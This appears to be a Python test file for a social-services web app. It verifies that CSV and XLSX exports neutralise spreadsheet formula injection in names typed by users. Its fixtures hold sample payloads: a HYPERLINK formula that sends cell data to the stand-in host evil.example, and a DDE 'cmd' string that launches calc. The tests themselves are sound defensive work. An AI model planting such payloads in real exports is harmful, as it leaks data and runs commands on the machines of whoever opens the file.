"""No export carries a live formula: a name typed by a user that starts with =, +, -, @, a tab or a carriage return
reaches the RT's CSV or XLSX as inert text (OWASP's "CSV injection"), in every CSV and XLSX Trama writes."""

import csv
import io
import zipfile
from datetime import date, time, timedelta

import pytest
from django.test import TestCase
from openpyxl import load_workbook

from common.tabular import FORMULA_STARTS
from core.testing import EnteFactory, today
from exports.models import ExportJob
from exports.testing import run_queued_tasks
from governance.training.models import StaffMember
from interventions.models import Intervento
from interventions.testing import seregno_budget, start_path
from organisation.models import Ente, EquipeMember

EVIL = '=HYPERLINK("http://evil.example/?"&A2,"ETS")'
EVIL_BUDGET = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def hostile(world):
    """Names typed by users that a spreadsheet would run: an ETS, a budget, a staff member, a cohort."""
    ets = EnteFactory(ambito=world.ambito, tipo=Ente.Tipo.ETS, nome=EVIL)
    EquipeMember.objects.filter(user=world.educatore).update(ente=ets)
    budget = seregno_budget(world.ambito, start=today() - timedelta(days=60), end=today() + timedelta(days=60))
    budget.nome = EVIL_BUDGET
    budget.save()
    family = start_path(world.family, included=today() - timedelta(days=30))
    Intervento.objects.create(family=family, ambito=world.ambito, operatore=world.educatore, ente=ets,
                              data=today() - timedelta(days=2), ora_inizio=time(9, 0), ora_fine=time(10, 0),
                              durata_minuti=60, servizio="educativa", ruolo="educatore")
    StaffMember.objects.create(ente=ets, nome="+39 333 000", ruolo="educatore", in_servizio_dal=date(2024, 1, 1),
                               qualifiche="-cmd")
    world.cohort.nome = "\t=1+1"
    world.cohort.save()
    family.implementazione = world.cohort
    family.save(update_fields=["implementazione"])
    return budget


def csv_cells(text: str, delimiter: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row}


def live_csv_cells(text: str, delimiter: str) -> list[str]:
    rows = csv.reader(io.StringIO(text), delimiter=delimiter)
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]


def _is_number(cell: str) -> bool:
    try:
        float(cell.replace(",", "."))
    except ValueError:
        return False
    return True


def live_xlsx_cells(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [f"{sheet.title}!{cell.coordinate}" for sheet in book for row in sheet.iter_rows() for cell in row
            if cell.data_type == "f"]


def test_the_budget_csv_and_xlsx_hold_no_formula(world, hostile, login):
    client = login("rt")
    text = client.get("/interventi/budget/export.csv").content.decode("utf-8-sig")
    assert {"'" + EVIL_BUDGET, "'" + EVIL} <= csv_cells(text, ";")  # the names are there, as inert text
    assert live_csv_cells(text, ";") == []
    content = client.get("/interventi/budget/export.xlsx").content
    assert live_xlsx_cells(content) == []
    values = {c.value for s in load_workbook(io.BytesIO(content)) for r in s.iter_rows() for c in r}
    assert EVIL in values and EVIL_BUDGET in values


def test_the_staff_register_csv_holds_no_formula(world, hostile, login):
    text = login("amministrativo").get("/governance/personale/?formato=csv").content.decode("utf-8-sig")
    assert {"'" + EVIL, "'+39 333 000", "'-cmd"} <= csv_cells(text, ";")
    assert live_csv_cells(text, ";") == []


def test_the_rendicontazione_xlsx_holds_no_formula(world, hostile, login):
    query = f"dal={today() - timedelta(days=90)}&al={today()}&ambito={world.ambito.pk}"
    content = login("amministrativo").get(f"/indicatori/rendicontazione.xlsx?{query}").content
    assert live_xlsx_cells(content) == []
    assert EVIL in {c.value for s in load_workbook(io.BytesIO(content)) for r in s.iter_rows() for c in r}


def test_the_research_export_csv_holds_no_formula(world, hostile, login):
    client = login("rt")
    with TestCase.captureOnCommitCallbacks(execute=True):
        client.post("/indicatori/esportazione-ricerca/", {"key": "una-chiave-lunga-2026"})
    run_queued_tasks()
    job = ExportJob.objects.latest("pk")
    archive = zipfile.ZipFile(io.BytesIO(b"".join(client.get(f"/esportazioni/{job.pk}/scarica/").streaming_content)))
    texts = {name: archive.read(name).decode() for name in archive.namelist() if name.endswith(".csv")}
    assert "'\t=1+1" in csv_cells(texts["famiglie.csv"], ",")
    assert {name: live_csv_cells(text, ",") for name, text in texts.items()} == {name: [] for name in texts}
